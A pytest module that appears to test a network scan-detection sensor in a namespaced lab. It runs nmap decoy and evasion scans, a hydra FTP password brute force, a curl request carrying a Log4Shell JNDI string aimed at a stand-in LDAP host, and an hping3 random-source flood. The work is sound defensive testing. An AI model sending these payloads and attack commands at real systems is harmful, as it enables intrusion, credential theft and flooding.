"""Real tools at a running sensor: what it tells of each, how soon, and nothing of who visits a real service.

What each tool's packets look like is in tests/captures and replayed without a kernel. Here is what only a live sensor
shows: the file, the clock, reassembled fragments, credentials, decoys, decoy networks and addresses that nobody has.
Every test comes from an address of its own.
"""

import json
import subprocess
import time
from collections.abc import Callable, Iterator
from datetime import datetime
from pathlib import Path

import pytest

from rawspoof.edges.lab.namespaces import INTERFACE, Lab
from rawspoof.edges.system.clock import steady
from tests.netns.sensors import Sensor, open_folder, running, tell, until
from tests.netns.taps import TARGET, call, greeting, serving

pytestmark = pytest.mark.netns

TOLD_S = 2.0
"""From the first packet of a scan to its report in a file."""
SOON_S = 6.0
RUNS_S = 60.0
NET = "203.0.113.0/28"
CONFIG = f"""
[sensor]
networks = ["{NET}"]

[watch]
idle_s = 60
update_s = 1

[world]
only = "vsftpd"
delivery = "prompt"
"""


class Stage:
    """A lab whose sensor writes its events to a file."""

    def __init__(self, lab: Lab, sensor: Sensor, events: Path) -> None:
        self.lab, self.sensor, self._events = lab, sensor, events
        self._last = 10

    def move(self) -> str:
        """The attacker's new address, its own from now on."""
        self._last += 1
        address = f"198.51.100.{self._last}"
        call(self.lab, "attacker", "ip", "address", "add", f"{address}/24", "dev", INTERFACE)
        call(self.lab, "attacker", "ip", "route", "replace", TARGET, "dev", INTERFACE, "src", address)
        call(self.lab, "attacker", "ip", "route", "replace", NET, "via", TARGET, "src", address)
        return address

    def run(self, *argv: str) -> "subprocess.Popen[bytes]":
        """A command on the attacker's side, begun."""
        quiet = subprocess.DEVNULL
        return self.lab.run("attacker", argv, stdin=quiet, stdout=quiet, stderr=quiet)

    def nmap(self, source: str, *args: str) -> "subprocess.Popen[bytes]":
        """A raw scan from an address."""
        return self.run("nmap", "-n", "-Pn", "--disable-arp-ping", "-T5", "-S", source, "-e", INTERFACE, *args)

    def scans(self) -> list[dict]:
        """All reports so far, ECS's fields beside our own."""
        if not self._events.exists():
            return []
        events = [json.loads(line) for line in self._events.read_text().split("\n")[:-1]]
        return [event["rawspoof"] | event for event in events if event["event"]["action"].startswith("scan.")]

    def of(self, source: str, when: Callable[[dict], bool] = lambda report: True) -> dict:
        """The first report about a source of which that is true, once there is one."""
        return until(lambda: [scan for scan in self.scans() if scan["source"]["ip"] == source and when(scan)], SOON_S)[
            0
        ]


@pytest.fixture(scope="module")
def stage() -> Iterator[Stage]:
    with open_folder() as folder, Lab() as lab:
        config, events = folder / "config.toml", folder / "events"
        config.write_text(CONFIG)
        with running(lab, "-c", str(config), "--events", str(events)) as sensor:
            yield Stage(lab, sensor, events)


def facts(report: dict) -> tuple[str, list[str], bool]:
    return report["tool"], report["techniques"], report["proven"]


def test_a_scan_is_told_within_two_seconds_of_its_first_packet(stage):
    source = stage.move()
    stage.nmap(source, "-sS", "-p", "20-40", TARGET)
    report = stage.of(source)
    took = steady()() - datetime.fromisoformat(report["event"]["start"]).timestamp()
    tell(f"first packet to scan.detected in the file: {took:.2f} s")
    assert took < TOLD_S
    assert facts(report) == ("nmap", ["syn"], False)
    assert report["targets"] == [{"ip": TARGET, "count": 21, "ports": "20-40"}]


def test_nmap_is_told_by_its_name_and_technique(stage):
    wanted = {
        "-sS -f": ["syn"],
        "-sS --mtu 16": ["syn"],
        "-sX": ["xmas"],
        "-sA --ttl 70": ["ack"],
        "-sS --badsum": ["syn", "badsum"],
    }
    sources = {how: stage.move() for how in wanted}
    scans = [stage.nmap(source, *how.split(), "-p", "21-25", TARGET) for how, source in sources.items()]
    assert [scan.wait(RUNS_S) for scan in scans] == [0] * len(wanted)
    assert {how: facts(stage.of(source)) for how, source in sources.items()} == {
        how: ("nmap", techniques, False) for how, techniques in wanted.items()
    }


def test_decoys_prove_nobody_until_one_completes_a_handshake(stage):
    source = stage.move()
    decoys = ["198.51.100.201", "198.51.100.202"]
    stage.nmap(source, "-sS", "-D", ",".join([decoys[0], "ME", decoys[1]]), "-p", "21-25", TARGET)
    for address in (source, *decoys):
        assert facts(stage.of(address)) == ("nmap", ["syn", "decoy"], False)
    assert greeting(stage.lab, "attacker", TARGET, 2121).startswith(b"220")
    assert stage.of(source, lambda report: report["proven"])["techniques"] == ["connect", "syn", "decoy", "banner"]
    assert {scan["proven"] for scan in stage.scans() if scan["source"]["ip"] in decoys} == {False}


def test_a_sweep_over_a_decoy_network(stage):
    source = stage.move()
    stage.nmap(source, "-sS", "-p", "22,80", NET)
    report = stage.of(source)
    assert facts(report) == ("nmap", ["syn", "sweep"], False)
    assert (report["target_count"], report["port_count"]) == (16, 32)


def test_passwords_guessed_by_hydra_are_brute_force(stage, tmp_path):
    source, words = stage.move(), tmp_path / "words"
    words.write_text("".join(f"secret{number}\n" for number in range(5)))
    stage.run("hydra", "-I", "-l", "admin", "-P", str(words), "-t", "5", f"ftp://{TARGET}").wait(RUNS_S)
    report = stage.of(source, lambda report: report["credentials"] == 5)
    assert report["techniques"] == ["connect", "brute-force"]
    assert (report["proven"], report["credentials"], report["threat"]["technique"]["id"]) == (
        True, 5, ["T1110", "T1595.001"],
    )  # fmt: skip
    assert report["event"]["severity"] >= 2


def test_exploit_strings_are_told_by_name(stage):
    source = stage.move()
    stage.run("curl", "-s", "-m", "2", "-A", "${jndi:ldap://198.51.100.2/a}", f"http://{TARGET}:8080/")
    report = stage.of(source)
    assert (report["techniques"], report["signs"]) == (["connect", "exploit"], ["Log4Shell"])
    assert (report["system"], report["tool"], report["proven"]) == ("linux", "", True)


def test_a_client_of_a_real_service_is_nobody(stage):
    source = stage.move()
    with serving(stage.lab, "sensor", 8443):
        for _ in range(20):
            assert greeting(stage.lab, "attacker", TARGET, 8443) == b"genuine"
    # Who comes after it is told, and it is not.
    other = stage.move()
    greeting(stage.lab, "attacker", TARGET, 21)
    assert stage.of(other)["techniques"][0] == "connect"
    assert source not in {scan["source"]["ip"] for scan in stage.scans()}


def test_addresses_that_nobody_has_are_never_proven(stage):
    source, before = stage.move(), len(stage.scans())
    began = time.monotonic()
    stage.run("hping3", "--rand-source", "-S", "-p", "80", "-i", "u50", "-c", "8000", TARGET).wait(RUNS_S)
    assert greeting(stage.lab, "attacker", TARGET, 21).startswith(b"220")
    assert stage.of(source)["proven"]
    seconds = time.monotonic() - began + 2
    flood = [scan for scan in stage.scans()[before:] if not scan["source"]["ip"].startswith("198.51.100.")]
    assert {scan["proven"] for scan in flood} == {False}
    # So many a second at first, and their ends.
    assert len({scan["source"]["ip"] for scan in flood}) <= 50 * seconds
    tell(f"8,000 invented addresses: {len(flood)} reports")
